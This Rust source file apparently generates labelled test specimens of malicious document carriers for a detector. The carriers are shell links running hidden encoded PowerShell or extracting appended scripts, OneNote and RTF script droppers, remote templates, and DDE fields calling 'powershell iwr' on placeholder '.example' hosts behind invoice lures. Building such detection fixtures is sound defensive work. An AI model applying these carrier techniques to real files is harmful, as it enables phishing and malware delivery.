//! Carriers that are no macro: PDF, shell links, OneNote, RTF, fields, templates.

use super::{Specimen, Truth, word};
use crate::forge::carrier::link::Link;
use crate::forge::carrier::pdf::{Act, Pdf};
use crate::forge::carrier::{dropper, fields, onenote, rich};
use crate::forge::{Chance, macros};

fn truth(shape: &str, style: impl serde::Serialize, container: &str, urls: &[String]) -> Truth {
    Truth {
        verdict: "attack",
        shape: shape.to_owned(),
        style: word(style),
        container: container.to_owned(),
        urls: urls.to_vec(),
        ..Truth::default()
    }
}

/// An address of a document.
fn document_address(chance: &mut Chance) -> String {
    format!(
        "http://www.{}-{}.example/wp-content/{}/INV-{}.doc",
        chance.word(3, 7),
        chance.word(4, 8),
        chance.identifier(),
        chance.between(10_000_000, 99_999_999)
    )
}

/// E4: a PDF whose link leads to a document.
pub(super) fn pdf(round: usize, chance: &mut Chance) -> Specimen {
    let url = document_address(chance);
    let lines = ["ご請求書", "下記のリンクから請求書をダウンロードしてください。"];
    let packed = round.is_multiple_of(2);
    let acts = vec![Act::Link(url.clone())];
    let bytes = Pdf { lines: lines.map(str::to_owned).to_vec(), acts, packed }.write();
    let style = if packed { "pdf-object-stream" } else { "pdf-plain" };
    let mut truth = truth("e4", style, "pdf", &[url]);
    truth.place = Some("link".to_owned());
    truth.checks = vec!["document.pdf-leads-to-document"];
    Specimen { extension: "pdf", bytes, truth }
}

const SHELL: &str = "..\\..\\..\\..\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "..\\..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/// E7: a shell link with the script in its arguments or appended to it.
pub(super) fn link(round: usize, chance: &mut Chance) -> Specimen {
    let mut urls = macros::script::urls(chance);
    urls.truncate(4);
    let file = chance.word(4, 8);
    let script = macros::script::script(macros::Shape::E1, &urls, chance);
    let (style, program, arguments, appended) = match round % 3 {
        0 => {
            let encoded = macros::script::base64(&crate::forge::ovba::utf16(&script));
            ("lnk-encoded", POWERSHELL, format!("-w hidden -nop -enc {encoded}"), String::new())
        }
        1 => {
            let mark = format!("'{}", chance.word(9, 12));
            let inner = dropper::script(
                dropper::Language::Vbs,
                *chance.pick(&dropper::Style::ALL[..4]),
                &urls,
                "cmd /c echo done",
                chance,
            );
            let lines: String = inner.lines().map(|line| format!("{line} {mark}\r\n")).collect();
            let arguments = format!(
                "/v:on /c findstr \"{mark}\" \"{file}.doc.lnk\" > \"%tmp%\\{file}.vbs\" & echo \"%tmp%\\{file}.vbs\""
            );
            ("lnk-appended-vbs", SHELL, arguments, format!("\r\n{lines}"))
        }
        _ => {
            let arguments = format!(
                "/c powershell -w hidden -c \"$l=Get-Content '{file}.doc.lnk' | Select-String '^;#(.*)';$l.Matches.Groups[1].Value\""
            );
            ("lnk-appended-powershell", SHELL, arguments, format!("\r\n;#{script}\r\n"))
        }
    };
    let name = if round.is_multiple_of(2) { "Microsoft Word 文書" } else { "見積書.doc" };
    let link = Link {
        name: name.to_owned(),
        program: program.to_owned(),
        arguments: arguments.clone(),
        icon: "%ProgramFiles%\\Microsoft Office\\Office16\\WINWORD.EXE".to_owned(),
        appended: appended.into_bytes(),
    };
    let mut truth = truth("e7", style, "lnk", &urls);
    let short = program.rsplit('\\').next().unwrap_or(program);
    truth.place = Some(if round.is_multiple_of(3) { "arguments" } else { "appended" }.to_owned());
    truth.command = Some(format!("{short} {arguments}"));
    truth.arguments = Some(arguments);
    truth.script = (round % 3 != 1).then_some(script);
    Specimen { extension: "lnk", bytes: link.write(), truth }
}

/// E9: a script behind a button of a notebook's page.
pub(super) fn onenote(round: usize, chance: &mut Chance) -> Specimen {
    let style = dropper::Style::ALL[round % dropper::Style::ALL.len()];
    let language = dropper::Language::ALL[round % dropper::Language::ALL.len()];
    let mut urls = macros::script::urls(chance);
    urls.truncate(5);
    let command = format!("cmd /c echo rundll32 {}.dll,DllRegisterServer", chance.word(4, 8));
    let script = dropper::script(language, style, &urls, &command, chance);
    let name = format!("{}.{}", *chance.pick(&["click", "view", "output1"]), language.extension());
    // A picture lies over the file: its first bytes are enough to be carved.
    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), &chance.bytes(64)].concat();
    let files = [("banner.png".to_owned(), picture), (name, script.into_bytes())];
    let text = "This document is protected. You have to double-click \"View\" button to open this document.";
    let mut truth = truth("e9", style, "one", &urls);
    truth.place = Some(format!("embedded-{}", language.extension()));
    truth.command = Some(command);
    Specimen { extension: "one", bytes: onenote::write(text, &files, chance), truth }
}

/// An RTF file with a packaged script.
pub(super) fn rtf(round: usize, chance: &mut Chance) -> Specimen {
    let style = rich::Style::ALL[round % rich::Style::ALL.len()];
    let mut urls = macros::script::urls(chance);
    urls.truncate(3);
    let command = format!("cmd /c echo {}.exe", chance.word(4, 8));
    let plain = dropper::Style::ScriptConcatenation;
    let script = dropper::script(dropper::Language::Vbs, plain, &urls, &command, chance);
    let name = format!("{}.vbs", chance.word(4, 8));
    let lines = macros::lure(chance).lines;
    let mut truth = truth("rtf-package", style, "rtf", &urls);
    truth.place = Some("objdata".to_owned());
    truth.shows = lines[0].clone();
    truth.package = Some(name.clone());
    truth.command = Some(command);
    let bytes = rich::with_package(style, &lines, &name, script.as_bytes(), chance);
    Specimen { extension: "rtf", bytes, truth }
}

/// Documents that reach out without a macro: DDE and templates elsewhere.
pub(super) fn without_macros(round: usize, chance: &mut Chance) -> Specimen {
    let lines = macros::lure(chance).lines;
    let shows = lines[0].clone();
    let template =
        format!("http://{}-{}.example/{}.dotm", chance.word(3, 7), chance.word(4, 8), chance.word(4, 8));
    match round % 6 {
        4 => {
            let bytes = fields::remote_template(&lines, &template, chance);
            let mut truth = truth("remote-template", "template-relationship", "docx", &[template]);
            truth.place = Some("settings".to_owned());
            truth.checks = vec!["document.remote-template"];
            truth.shows = shows;
            Specimen { extension: "docx", bytes, truth }
        }
        5 => {
            let bytes = rich::with_template(&lines, &template);
            let mut truth = truth("remote-template", "template-control-word", "rtf", &[template]);
            truth.place = Some("template".to_owned());
            truth.checks = vec!["document.remote-template"];
            truth.shows = shows;
            Specimen { extension: "rtf", bytes, truth }
        }
        turn => {
            let style = fields::Style::ALL[turn];
            let mut urls = macros::script::urls(chance);
            urls.truncate(1);
            let arguments = format!("/c echo powershell -w hidden -c iwr {}", urls[0]);
            let program = "c:\\windows\\system32\\cmd.exe";
            let bytes = fields::dde(style, &lines, program, &arguments, chance);
            let in_csv = style == fields::Style::DdeCell;
            let extension = if in_csv { "csv" } else { "docx" };
            let mut truth = truth("dde", style, extension, &urls);
            truth.place = Some(if in_csv { "cell" } else { "field" }.to_owned());
            truth.command = Some(format!("{} {arguments}", if in_csv { "cmd" } else { program }));
            truth.arguments = Some(arguments);
            truth.checks = vec!["document.dde-command"];
            truth.shows = shows;
            Specimen { extension, bytes, truth }
        }
    }
}
